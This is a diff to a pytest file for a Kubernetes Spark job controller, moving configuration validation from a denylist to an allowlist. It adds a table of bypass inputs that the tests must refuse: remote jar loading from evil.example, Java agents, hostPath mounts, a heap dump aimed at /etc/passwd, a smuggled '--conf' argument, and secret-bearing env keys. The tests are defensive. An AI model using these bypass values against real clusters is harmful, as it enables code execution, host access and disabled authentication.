@@ -14,11 +14,14 @@ from pydantic import ValidationError
 
 from contracts.manifests import load_job
 from contracts.streamjob import (
+    ALLOWED_SPARK_CONF,
+    CLUSTER_CONTEXT,
     IN_CLUSTER_MASTER,
     PROTECTED_SPARK_CONF,
     SparkSpec,
     StreamJob,
     protected_spark_key,
+    spark_conf_problem,
 )
 from controller.kube import api as api_mod
 from controller.kube import network_policy as netpol
@@ -120,26 +123,113 @@ def test_protected_settings_are_refused_naming_the_key(key: str) -> None:
     assert key in str(e.value) and "the controller owns" in str(e.value)
 
 
-@pytest.mark.parametrize(
-    "key",
-    ["spark.sql.shuffle.partitions", "spark.executor.memoryOverhead",
-     "spark.kubernetes.executor.label.team", "spark.kubernetes.executor.request.cores",
-     "spark.ui.port", "spark.network.crypto.enabled", "spark.authenticat"],
-)
-def test_other_settings_are_kept(key: str) -> None:
-    assert protected_spark_key(key) is None
-    job = model({key: "1"})
+BYPASSES: list[tuple[str, str, str]] = [
+    # (key, value, what the refusal names): every way a job author reached a protected setting
+    # or shaped the executor pods while the settings were a denylist
+    ("spark.driver.extraJavaOptions", "-Dspark.kubernetes.executor.secrets.db-creds=/mnt/x",
+     "-Dspark.kubernetes.executor.secrets"),
+    ("spark.executor.extraJavaOptions",
+     "-XX:+UseG1GC -Dspark.kubernetes.executor.volumes.hostPath.h.mount.path=/host",
+     "-Dspark.kubernetes.executor.volumes"),
+    ("spark.driver.extraJavaOptions", "-XX:+UseG1GC\n-Dspark.authenticate=false",
+     "-Dspark.authenticate"),
+    ("spark.driver.extraJavaOptions", "-javaagent:/tmp/a.jar", "-javaagent"),
+    ("spark.driver.extraJavaOptions", "-agentlib:jdwp=transport=dt_socket", "-agentlib"),
+    ("spark.driver.extraJavaOptions", "-Xbootclasspath/a:/tmp", "-Xbootclasspath"),
+    ("spark.driver.extraJavaOptions", "-XX:+UnlockDiagnosticVMOptions", "Unlock"),
+    ("spark.driver.extraJavaOptions", "-XX:HeapDumpPath=/etc/passwd", "HeapDumpPath"),
+    ("spark.driver.extraJavaOptions", "-Xlog:gc:file=/etc/x", "-Xlog:gc:file"),
+    ("spark.driver.defaultJavaOptions", "-Dspark.kubernetes.executor.secrets.s=/m",
+     "spark.driver.defaultJavaOptions"),
+    ("spark.executor.defaultJavaOptions", "-XX:+UseG1GC", "spark.executor.defaultJavaOptions"),
+    ("spark.kubernetes.executor.pod.featureSteps", "org.evil.Step",
+     "spark.kubernetes.executor.pod.featureSteps"),
+    ("spark.jars", "http://evil.example/step.jar", "spark.jars"),
+    ("spark.jars.packages", "org.evil:step:1", "spark.jars.packages"),
+    ("spark.kubernetes.hadoop.configMapName", "other", "spark.kubernetes.hadoop.configMapName"),
+    ("spark.kubernetes.executor.hadoopConfigMapName", "other",
+     "spark.kubernetes.executor.hadoopConfigMapName"),
+    ("spark.kubernetes.executor.annotation.sidecar.istio.io/inject", "true",
+     "spark.kubernetes.executor.annotation"),
+    ("spark.kubernetes.node.selector.kubernetes.io/hostname", "n1",
+     "spark.kubernetes.node.selector"),
+    ("spark.kubernetes.executor.node.selector.zone", "a", "spark.kubernetes.executor.node"),
+    ("spark.kubernetes.scheduler.name", "evil", "spark.kubernetes.scheduler.name"),
+    ("spark.kubernetes.executor.scheduler.name", "evil",
+     "spark.kubernetes.executor.scheduler.name"),
+    ("spark.kubernetes.executor.label.app.kubernetes.io/name", "prometheus",
+     "spark.kubernetes.executor.label"),
+    ("spark.kubernetes.executor.label.team", "a", "spark.kubernetes.executor.label.team"),
+    ("spark.master=k8s://https://evil:6443", "x", "spark.master="),
+    ("spark.sql.shuffle.partitions=8 --conf spark.authenticate", "false",
+     "not a Spark setting's name"),
+    ("spark.executorEnv.AWS_SECRET_ACCESS_KEY", "x", "spark.executorEnv"),
+    ("spark.executor.extraClassPath", "/tmp", "spark.executor.extraClassPath"),
+    ("spark.executor.instances", "50", "the controller sets the executor count"),
+    ("spark.dynamicAllocation.enabled", "true", "dynamic allocation"),
+    ("spark.executor.memoryOverhead", "4g", "spark.executor.memoryOverhead"),
+    ("spark.kubernetes.executor.request.cores", "4", "spec.executors.cpu"),
+    ("spark.ui.port", "80", "spark.ui.port"),
+    ("spark.authenticat", "x", "spark.authenticat"),
+]
+
+
+@pytest.mark.parametrize(("key", "value", "named"), BYPASSES)
+def test_every_bypass_is_refused_naming_the_key(key: str, value: str, named: str) -> None:
+    """By the model (and so by ``validate --cluster`` and the controller), with what it names;
+    the CRD's CEL rule is built from the same allowlist (test_crds.py loads it into a real API
+    server and refuses the same keys there)."""
+    with pytest.raises(ValidationError) as e:
+        model({key: value})
+    assert named in str(e.value), str(e.value)
+    assert spark_conf_problem(key, value) is not None
+
+
+def test_a_refused_setting_never_reaches_the_driver_even_when_stored() -> None:
+    """An object stored before the allowlist (the model refuses it now) is built without it."""
+    job = model()
+    sneaky = job.spec.spark.model_copy(update={"conf": dict(
+        (k, v) for k, v, _ in BYPASSES if protected_spark_key(k) is None)})
+    job = job.model_copy(update={"spec": job.spec.model_copy(update={"spark": sneaky})})
     conf = _conf(job)
-    assert conf[key] == "1"
+    for key, value, _ in BYPASSES:
+        assert conf.get(key) != value or key in resources.owned_spark_conf(
+            job, resources.Names.of(OBJ), ManagedSettings(image="img:1")), key
 
 
-def test_the_crd_has_one_rule_per_protected_entry() -> None:
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [("spark.sql.shuffle.partitions", "8"), ("spark.network.crypto.enabled", "true"),
+     ("spark.hadoop.fs.s3a.endpoint", "http://minio.storage.svc:9000"),
+     ("spark.serializer", "org.apache.spark.serializer.KryoSerializer"),
+     ("spark.memory.fraction", "0.5"), ("spark.kafka.consumer.cache.capacity", "128"),
+     ("spark.driver.extraJavaOptions", "-XX:+UseG1GC -XX:MaxGCPauseMillis=200 -Xss4m"),
+     ("spark.executor.extraJavaOptions", " -XX:+ExitOnOutOfMemoryError  -Xlog:gc*:stdout "),
+     ("spark.executor.extraJavaOptions", "")],
+)
+def test_the_settings_a_job_needs_are_kept(key: str, value: str) -> None:
+    assert spark_conf_problem(key, value) is None
+    assert _conf(model({key: value}))[key] == value
+
+
+def test_every_allowed_entry_stays_clear_of_what_the_controller_owns() -> None:
+    for a in ALLOWED_SPARK_CONF:
+        assert protected_spark_key(a.rstrip("*")) is None, a
+        assert a.endswith(("*", "JavaOptions")) or "." in a, a
+    for p in PROTECTED_SPARK_CONF:
+        assert spark_conf_problem(p.rstrip("*") + ("x" if p.endswith("*") else ""), "v"), p
+
+
+def test_the_crd_rules_are_built_from_the_allowlist() -> None:
     crd = yaml.safe_load((REPO / "k8s/crds/streamjobs.yaml").read_text())
     spark = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"][
         "properties"]["spark"]
-    messages = [r["message"] for r in spark["x-kubernetes-validations"]]
-    assert [m.split(" ")[4].rstrip(":") for m in messages] == list(PROTECTED_SPARK_CONF)
+    rules = [r["rule"] for r in spark["x-kubernetes-validations"]]
+    for a in ALLOWED_SPARK_CONF:
+        assert (f'k.startsWith("{a[:-1]}")' if a.endswith("*") else f'k == "{a}"') in rules[0]
+    assert sum(".matches(" in r for r in rules) == 2
     assert spark["properties"]["conf"]["maxProperties"] > 0
+    assert spark["properties"]["conf"]["additionalProperties"]["maxLength"] > 0
 
 
 def _conf(job: StreamJob) -> dict[str, str]:
@@ -166,26 +256,17 @@ def test_the_controllers_manifest_carries_every_owned_setting_and_loads(tmp_path
     assert loaded.spec.spark.conf["spark.sql.shuffle.partitions"] == "8"
 
 
-def test_a_stored_protected_setting_never_reaches_the_driver() -> None:
-    """An object stored before the rule (the model refuses it now) is built without it."""
-    job = model()
-    sneaky = job.spec.spark.model_copy(update={"conf": {
-        "spark.kubernetes.container.image": "evil:1",
-        "spark.kubernetes.executor.volumes.hostPath.h.mount.path": "/host",
-        "spark.ui.killEnabled": "true",
-    }})
-    job = job.model_copy(update={"spec": job.spec.model_copy(update={"spark": sneaky})})
-    conf = _conf(job)
-    assert conf["spark.kubernetes.container.image"] == "img:1"
-    assert conf["spark.ui.killEnabled"] == "false"
-    assert not any("hostPath" in k for k in conf)
-
-
 def test_the_in_cluster_master_is_the_only_exception() -> None:
+    """The runner reads the controller's own manifest; validated as the API server does (the
+    controller, ``validate --cluster``), the same master gets no exception."""
     SparkSpec.model_validate({"master": IN_CLUSTER_MASTER, "conf": {"spark.authenticate": "x"}})
     with pytest.raises(ValidationError):
         SparkSpec.model_validate({"master": "k8s://https://elsewhere:6443",
                                   "conf": {"spark.authenticate": "false"}})
+    with pytest.raises(ValidationError):
+        SparkSpec.model_validate({"master": IN_CLUSTER_MASTER,
+                                  "conf": {"spark.authenticate": "false"}},
+                                 context={CLUSTER_CONTEXT: True})
 
 
 # --- RPC authentication, UI kill, what the drivers' Role is sized for ------------------------
